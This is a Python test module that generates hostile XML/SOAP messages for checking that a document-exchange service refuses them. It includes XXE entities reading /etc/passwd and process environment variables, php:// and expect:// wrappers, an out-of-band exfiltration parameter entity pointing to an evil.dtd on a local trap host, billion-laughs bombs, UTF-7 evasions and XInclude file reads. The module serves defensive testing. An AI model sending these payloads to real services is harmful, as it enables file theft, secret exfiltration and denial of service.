"""Document types with their entities, and whatever is to be fetched from elsewhere.

What is fetched would be fetched from `TRAP`, where the judge listens: nobody calls.
"""

import re
from collections.abc import Iterator
from typing import Final

from tests.hostile.making import SUBJECT, by_lands, plain, spoiled
from tests.hostile.offices import LANDS
from tests.hostile.signing import Recipe
from tests.hostile.vector import Carried, Kind, Refused, Vector, Verdict

TRAP: Final = "127.0.0.1:19"
"""Written into the vectors; the judge listens on a free port and puts it here."""

DOCTYPE = Refused("malformed-envelope")
SCHEMA = Refused("schema-violated")

_URL = f"http://{TRAP}"
_ENVELOPE = "<SOAP-ENV:Envelope"
_SUBJECT = f"<ram:Subject>{SUBJECT}</ram:Subject>"


def vectors() -> Iterator[Vector]:
    """Yield the vectors of both classes."""
    for name, (wrong, content, verdict) in {**_dtds(), **_encoded()}.items():
        yield Vector(name, Kind.DTD, wrong, content, verdict)
    for name, (wrong, content, verdict) in {**_entities(), **_fetching()}.items():
        yield Vector(name, Kind.OUTSIDE, wrong, content, verdict)
    recipe = Recipe(uri=f"{_URL}/letter")
    yield Vector(
        "reference",
        Kind.OUTSIDE,
        "A signature over a letter that lies elsewhere",
        by_lands("reference", recipe),
        Refused("signed-part-missing"),
        door=LANDS,
    )
    key_info = f'<ds:RetrievalMethod URI="{_URL}/key"/>'
    yield Vector(
        "key",
        Kind.OUTSIDE,
        "A signature whose key lies elsewhere",
        by_lands("key", Recipe(key_info=key_info)),
        Refused("signature-invalid"),
        door=LANDS,
    )


_Cases = dict[str, tuple[str, bytes, Verdict]]


def typed(name: str, doctype: str, subject: str = "") -> bytes:
    """Return a letter behind a document type, its subject the entity that it has."""
    subject = subject or ("&x;" if "<!ENTITY x" in doctype else SUBJECT)
    wire = spoiled(plain(name), _SUBJECT, f"<ram:Subject>{subject}</ram:Subject>")
    return doctype.encode() + wire


def _internal(inside: str) -> str:
    return f"<!DOCTYPE SOAP-ENV:Envelope [{inside}]>"


def _laughs(depth: int, width: int) -> str:
    steps = (f'<!ENTITY e{n} "{f"&e{n - 1};" * width}">' for n in range(1, depth + 1))
    return f'<!ENTITY e0 "ha">{"".join(steps)}<!ENTITY x "&e{depth};">'


def _dtds() -> _Cases:
    cases = {
        "empty": ("One with nothing in it", "<!DOCTYPE x>"),
        "internal": ("An entity of its own", _internal('<!ENTITY x "y">')),
        "billion-laughs": ("A billion laughs", _internal(_laughs(9, 10))),
        "quadratic": (
            "One long entity, used often",
            _internal(f'<!ENTITY x "{"y" * 50_000}">'),
        ),
        "recursive": (
            "An entity that holds itself",
            _internal('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
        ),
        "parameter": (
            "A parameter entity that makes another",
            _internal("<!ENTITY % p '<!ENTITY x \"y\">'> %p;"),
        ),
        "attribute-default": (
            "An attribute that stands nowhere: a second ID",
            _internal('<!ATTLIST ram:Subject ID CDATA "Letter">'),
        ),
        "id-type": (
            "Another attribute declared to be the ID",
            _internal("<!ATTLIST ram:Subject mimeCode ID #IMPLIED>"),
        ),
        "redefined": (
            "&lt; means something else",
            _internal('<!ENTITY lt "&#38;#60;"><!ENTITY x "y">'),
        ),
        "notation": (
            "A notation and an unparsed entity",
            _internal('<!NOTATION n SYSTEM "n"><!ENTITY u SYSTEM "u" NDATA n>'),
        ),
        "element": ("Declarations of elements", _internal("<!ELEMENT x ANY>")),
        "long": (
            "A hundred thousand declarations",
            _internal("<!ENTITY y 'z'>" * 100_000),
        ),
        "unclosed": ("One that never ends", "<!DOCTYPE x ["),
        "behind-a-comment": (
            "One behind a long comment",
            f"<!--{'-x' * 2000}-->\n<!DOCTYPE x>",
        ),
        "behind-a-declaration": (
            "One behind the XML declaration",
            '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE x>',
        ),
    }
    made: _Cases = {
        f"dtd-{name}": (wrong, typed(f"dtd-{name}", doctype), DOCTYPE)
        for name, (wrong, doctype) in cases.items()
    }
    made["dtd-long"] = (*made["dtd-long"][:2], Refused("limit-exceeded"))
    made["dtd-in-attribute"] = (
        "A bomb in an attribute, which parsers expand whatever they are told",
        spoiled(
            typed("dtd-in-attribute", _internal(_laughs(9, 10)), SUBJECT),
            'mimeCode="application/pdf"',
            'mimeCode="&x;"',
        ),
        DOCTYPE,
    )
    made["dtd-none-entity"] = (
        "An entity that no document type declares",
        typed("dtd-none-entity", "", "&x;"),
        DOCTYPE,
    )
    made["dtd-in-text"] = (
        "The words <!DOCTYPE in a subject, escaped: they are words",
        typed("dtd-in-text", "", "&lt;!DOCTYPE x>"),
        Carried("<!DOCTYPE x>"),
    )
    made["dtd-in-cdata"] = (
        "The same in CDATA, which honest clients do not write",
        typed("dtd-in-cdata", "", "<![CDATA[<!DOCTYPE x>]]>"),
        DOCTYPE,
    )
    return made


def _encoded() -> _Cases:
    """Hide it from whoever looks at bytes."""
    text = typed("dtd-hidden", _internal('<!ENTITY x "y">')).decode()
    made: _Cases = {
        f"dtd-{encoding}": (
            f"One in {encoding.upper()}",
            text.replace("dtd-hidden", f"dtd-{encoding}").encode(encoding),
            DOCTYPE,
        )
        for encoding in ("utf-16", "utf-16-be", "utf-32", "utf-8-sig")
    }
    made["dtd-utf-7"] = (
        "One in UTF-7",
        b"<?xml version='1.0' encoding='UTF-7'?>"
        + re.sub(rb"<!DOCTYPE", b"+ADwAIQ-DOCTYPE", text.encode()),
        DOCTYPE,
    )
    return made


def _entities() -> _Cases:
    where = {
        "file": "file:///etc/passwd",
        "environment": "file:///proc/self/environ",
        "http": f"{_URL}/entity",
        "ftp": f"ftp://{TRAP}/entity",
        "php": "php://filter/read=convert.base64-encode/resource=/etc/passwd",
        "expect": "expect://id",
        "relative": "hub.db",
        "device": "file:///dev/zero",
    }
    made: _Cases = {
        f"entity-{name}": (
            f"An external entity: {address}",
            typed(f"entity-{name}", _internal(f'<!ENTITY x SYSTEM "{address}">')),
            DOCTYPE,
        )
        for name, address in where.items()
    }
    made["entity-parameter"] = (
        "A parameter entity that sends a file to another server",
        typed(
            "entity-parameter",
            _internal(
                f'<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM '
                f'"{_URL}/evil.dtd">%d;%f;'
            ),
        ),
        DOCTYPE,
    )
    made["dtd-elsewhere"] = (
        "A document type that lies elsewhere",
        typed("dtd-elsewhere", f'<!DOCTYPE x SYSTEM "{_URL}/x.dtd">'),
        DOCTYPE,
    )
    return made


def _fetching() -> _Cases:
    include = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="{href}" parse="text"/>'
    )
    hint = f'xsi:schemaLocation="urn:x {_URL}/x.xsd"'
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    header = "<SOAP-ENV:Header>"
    addressing = "http://www.w3.org/2005/08/addressing"
    reply = "".join(
        f'<a:{name} xmlns:a="{addressing}"><a:Address>{_URL}/x</a:Address></a:{name}>'
        for name in ("ReplyTo", "FaultTo", "From")
    )
    xop = (
        '<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" '
        f'href="{_URL}/file"/>'
    )
    return {
        "xinclude-file": (
            "XInclude of a file as the subject",
            _with_subject("xinclude-file", include.format(href="file:///etc/passwd")),
            SCHEMA,
        ),
        "xinclude-http": (
            "XInclude of an address as the subject",
            _with_subject("xinclude-http", include.format(href=f"{_URL}/x")),
            SCHEMA,
        ),
        "xinclude-header": (
            "XInclude in Header, which nobody reads: it is not followed",
            spoiled(
                plain("xinclude-header"),
                header,
                header + include.format(href=f"{_URL}/x"),
            ),
            Carried(SUBJECT),
        ),
        "style-sheet": (
            "A style sheet by processing instruction",
            f'<?xml-stylesheet type="text/xsl" href="{_URL}/x.xsl"?>'.encode()
            + plain("style-sheet"),
            Refused("malformed-envelope"),
        ),
        "schema-location": (
            "A schema that lies elsewhere, on the envelope: it is not fetched",
            spoiled(plain("schema-location"), _ENVELOPE, f"{_ENVELOPE} {xsi} {hint}"),
            Carried(SUBJECT),
        ),
        "schema-location-inside": (
            "The same on the document itself",
            spoiled(
                plain("schema-location-inside"),
                "<rsm:GovernmentDocument",
                f"<rsm:GovernmentDocument {xsi} {hint}",
            ),
            Carried(SUBJECT),
        ),
        "mtom": (
            "A file that lies elsewhere, by xop:Include",
            _with_file("mtom", xop),
            SCHEMA,
        ),
        "href": (
            "A SOAP 1.1 href beside a value: it is passed over",
            spoiled(plain("href"), "<ram:Subject>", f'<ram:Subject href="{_URL}/x">'),
            Carried(SUBJECT),
        ),
        "reply-to": (
            "Addresses to answer to: the answer goes to who asked",
            spoiled(plain("reply-to"), header, header + reply),
            Carried(SUBJECT),
        ),
        "to": (
            "Header names a destination elsewhere: nothing is sent there",
            spoiled(plain("to"), "></wsa:To>", f">{_URL}/to</wsa:To>"),
            Carried(SUBJECT),
        ),
        "base": (
            "xml:base on everything: nothing is resolved",
            spoiled(plain("base"), _ENVELOPE, f'{_ENVELOPE} xml:base="{_URL}/base/"'),
            Carried(SUBJECT),
        ),
    }


def _with_subject(name: str, inside: str) -> bytes:
    return spoiled(plain(name), f">{SUBJECT}<", f">{inside}<")


def _with_file(name: str, inside: str) -> bytes:
    pattern = rb"(<ram:MainLetterBinaryObject [^>]*>)[^<]*"
    return re.sub(pattern, rb"\g<1>" + inside.encode(), plain(name))
